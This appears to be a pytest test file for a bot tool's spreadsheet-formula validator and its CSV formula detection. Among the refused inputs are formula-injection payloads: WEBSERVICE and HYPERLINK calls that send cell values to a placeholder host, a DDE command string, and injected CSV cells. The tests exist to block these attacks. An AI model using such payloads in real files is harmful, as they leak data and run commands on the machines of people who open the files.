"""What a workbook takes for a formula, and what it never does."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as some

from bot.documents import formula_tree, formulas
from bot.errors import ToolError
from tests.tools.conftest import Grounds
from tests.tools.desks import desk_in, run

SHEETS = ("Q1", "It's all", "2026")


@pytest.mark.parametrize(
    ("given", "filed"),
    [
        ("SUM(B2:B9)", "SUM(B2:B9)"),
        ("=sum( $B$2:B9, , 3% )", "SUM( $B$2:B9, , 3% )"),
        ("q1!A1+'it''s ALL'!B:B", "'Q1'!A1+'It''s all'!B:B"),
        ('IF(A1>=-2^2,"a|b"&"""=x",TRUE)', 'IF(A1>=-2^2,"a|b"&"""=x",TRUE)'),
        ('TEXTJOIN(",",TRUE,A1:A3)', '_xlfn.TEXTJOIN(",",TRUE,A1:A3)'),
        ("LOOKUP(A1,{0,60;1,2})", "LOOKUP(A1,{0,60;1,2})"),
        ("1e3*.5", "1e3*.5"),
    ],
)
def test_a_formula_is_filed_as_spreadsheets_have_it(given: str, filed: str) -> None:
    assert formulas.checked(given, SHEETS, "Q1!A1") == filed


@pytest.mark.parametrize(
    ("formula", "why"),
    [
        ('WEBSERVICE("http://x/"&A1)', "reaches outside"),
        ('_xlfn.webservice("http://x")', "reaches outside"),
        ('IF(1,HYPERLINK("http://x/"&A1,"go"))', "reaches outside"),
        ('INDIRECT("A1")', "hides what it reads"),
        ("cmd|'/c calc'!A1", "cannot be read"),
        ("DDE(1)", "reaches outside"),
        ("[1]Other!A1", "no sheet '[1]Other'"),
        ("'C:\\[a.xlsx]Q1'!A1", "no sheet"),
        ("'http://host/[a.xlsx]Q1'!A1", "no sheet"),
        ("Q2!A1", "no sheet 'Q2'"),
        ("Q1!A1:Q1!B2", "no sheet"),
        ("SUMME(A1)", "no function"),
        ("XLOOKUP(A1,B:B,C:C)", "take INDEX and MATCH"),
        ("SUM(A1;B1)", "separated by commas"),
        ("SUM(A1,B1", "brackets do not match"),
        ("SUM(A1))", "not be read|not expected|cannot be read"),
        ("A1 B1", "not expected"),
        ("A1+", "missing at its end"),
        ("", "missing at its end"),
        ("SUM()", "does not take 0 arguments"),
        ("ROUND(A1)", "does not take 1 arguments"),
        ("Revenue*2", "names and tables"),
        ("Sales[Sum]", "names and tables"),
        ("XFE1", "columns up to XFD"),
        ("A1048577", "1,048,576"),
        ("A0", "names and tables"),
        ("#REF!", "no value"),
        ("{1,2;3}", "not of one length"),
        ("{A1}", "constants only"),
        ("inf", "names and tables|no value"),
        ("(" * 80 + "1" + ")" * 80, "nested too deeply"),
        ("-" * 5000 + "1", "cannot be read|too many"),
        ('"\x01"', "cannot be read"),
    ],
)
def test_what_is_none_or_reaches_out_is_refused_and_says_why(formula: str, why: str) -> None:
    with pytest.raises(
        ToolError, match=r"The formula of Q1!A1 .*" + f"({why})".replace("[1]", r"\[1\]")
    ) as refused:
        formulas.checked(formula, SHEETS, "Q1!A1")
    assert "Nothing was made; mend it." in str(refused.value)


@given(some.text("=+-*/^&<>%(),;:{}[]!'\"|#@$. \tAB1x2SUMIF", max_size=40))
def test_any_text_is_taken_whole_or_refused(text: str) -> None:
    try:
        filed = formulas.checked(text, SHEETS, "Q1!A1")
    except ToolError:
        return
    assert formula_tree.parsed(filed) == formula_tree.parsed(text.strip().removeprefix("=").strip())
    assert formulas.checked(filed, SHEETS, "Q1!A1") == filed


def test_the_cells_of_a_csv_text_that_would_be_reckoned_are_named_and_plain_numbers_are_not() -> None:
    csv = 'name,sum\n"=HYPERLINK(""http://x"",""a"")",-5\n@SUM(A1),"+1,000.50"\n\tx,- five\n'

    assert formulas.seeming(csv, ",") == ["A2", "A3", "A4", "B4"]
    assert formulas.seeming("a\t=1+1\n", "\t") == ["B1"]
    assert formulas.seeming("a,b\n-1,2e5\n", ",") == []


def test_a_csv_file_that_would_be_reckoned_is_written_and_the_cells_are_told(grounds: Grounds) -> None:
    desk = desk_in(grounds)

    told = run(desk, "write_file", path="a.csv", content="name,sum\n=1+1,-5\n")
    assert "a spreadsheet takes A2 for formulas" in told.text and told.receipt is not None
    assert (grounds.own / "a.csv").read_text() == "name,sum\n=1+1,-5\n"
    assert "Note" not in run(desk, "write_file", path="b.csv", content="name,sum\nx,-5\n").text
    assert "Note" not in run(desk, "write_file", path="b.md", content="=1+1,2").text
